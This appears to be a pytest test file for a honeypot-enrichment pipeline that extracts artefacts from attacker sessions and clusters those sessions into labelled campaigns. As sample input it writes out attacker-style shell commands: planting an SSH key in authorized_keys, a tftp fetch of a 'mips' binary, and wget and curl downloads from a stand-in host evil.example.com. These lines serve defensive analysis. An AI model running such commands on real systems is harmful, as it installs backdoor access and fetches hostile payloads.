"""What sessions can have in common, and how campaigns are called."""

from __future__ import annotations

import base64
from datetime import datetime, timedelta, timezone
from hashlib import sha256
from itertools import permutations

import pytest

from cowrie_enrich_dagster.campaigns import (
    Artefact,
    ArtefactSet,
    artefacts_of,
    campaigns_of,
    is_shared_by_all,
    label,
)
from cowrie_enrich_dagster.campaigns.rules import MOST_OF_A_KIND

NOW = datetime(2025, 11, 1, tzinfo=timezone.utc)
WORM = sha256(b"a worm").hexdigest()


def of_kind(kind: str, artefacts: list[Artefact]) -> list[str]:
    return [artefact.value for artefact in artefacts if artefact.kind == kind]


def test_artefacts_come_from_every_deed() -> None:
    """Keys shown or planted, files, hosts of URLs and of commands; each once."""
    blob = base64.b64encode(b"\0\0\0\x07ssh-rsa" + bytes(range(200))).decode()
    fingerprint = "SHA256:" + base64.b64encode(sha256(base64.b64decode(blob)).digest()).decode().rstrip("=")
    found = artefacts_of(
        [{"key": "SHA256:shown"}, {"key": None}, {"key": "SHA256:shown"}],
        [f'echo "ssh-rsa {blob} x" >> .ssh/authorized_keys', "tftp -g -r mips 45.9.148.3; echo 1.1.1.1",
         "wget http://Evil.Example.com./a; curl ftp://u:p@[2001:db8::1]:21/x http://$HOST/x"],
        [{"sha256": WORM}, {"sha256": WORM.upper()}, {"sha256": None}],
        ["http://45.9.148.2:81/x", "https://evil.example.com/b"],
    )  # fmt: skip
    assert of_kind("key", found) == ["SHA256:shown", fingerprint]
    assert of_kind("file", found) == [WORM]
    assert of_kind("host", found) == ["45.9.148.2", "evil.example.com", "45.9.148.3", "2001:db8::1"]
    assert len(of_kind("script", found)) == 1


@pytest.mark.parametrize(
    ("files", "urls"),
    [
        ([b"", b"\n", b"1\n", b"ok\n", b"test"], []),
        ([], ["http://raw.githubusercontent.com/x", "https://GitHub.com/x", "http://ifconfig.me"]),
        (
            [],
            [
                "http://127.0.0.1/x",
                "http://192.168.1.9/x",
                "http://10.0.0.1",
                "http://localhost/",
                "http://a.1",
            ],
        ),
    ],
)
def test_what_everybody_has_is_no_artefact(files: list[bytes], urls: list[str]) -> None:
    """Empty and trivial files, hosts of everybody, and addresses of nobody."""
    hashes = [{"sha256": sha256(content).hexdigest()} for content in files]
    assert artefacts_of([], [], hashes, urls) == []


def test_nobody_can_name_everything() -> None:
    """So many of a kind count, the first."""
    files = [{"sha256": sha256(str(n).encode() * 9).hexdigest()} for n in range(200)]
    found = of_kind("file", artefacts_of([], [], files, []))
    assert found == [file["sha256"] for file in files[:MOST_OF_A_KIND]]


def test_more_than_half_of_enough_sources_is_everybody() -> None:
    """Neither half of them, nor all of a few."""
    assert [is_shared_by_all(*counts) for counts in ((11, 20), (10, 20), (19, 19))] == [True, False, False]


def test_the_first_artefact_gives_the_id_in_whatever_order_sets_come() -> None:
    """Joined over others, too; a single session is no campaign."""
    sets = [
        ArtefactSet("x", (("file", "f1"), ("host", "h1")), 1, NOW + timedelta(hours=2)),
        ArtefactSet("y", (("host", "h1"), ("script", "s1")), 1, NOW),
        ArtefactSet("z", (("script", "s1"), ("key", "k1")), 3, NOW + timedelta(hours=1)),
        ArtefactSet("alone", (("file", "f2"),), 1, NOW),
        ArtefactSet("pair", (("file", "f3"),), 2, NOW),
        ArtefactSet("nothing", (), 9, NOW),
    ]
    for order in permutations(sets):
        found = {campaign: sorted(ids) for campaign, ids in campaigns_of(order).items()}
        assert found == {"h1": ["x", "y", "z"], "f3": ["pair"]}


def test_a_label_is_short_and_tells_the_most() -> None:
    """A script rather than a hash, unless few have it; one line that can be shown."""
    script = Artefact("script", "cd /tmp\nwget <url>\x1b[31m\u202e" + "x" * 400)
    told = [
        {"kind": "file", "value": WORM, "sessions": 10},
        {"kind": "script", "value": script.shown, "sessions": 5},
        {"kind": "host", "value": "45.9.148.2", "sessions": 4},
    ]
    assert label(told).startswith("script: cd /tmp; wget <url>\ufffd[31m\ufffdxxx")
    assert len(label(told)) == 80
    told[1]["sessions"] = 4
    assert label(told) == f"file: {WORM[:12]}…"
    told[2]["sessions"] = 6
    assert label(told) == "host: 45.9.148.2"
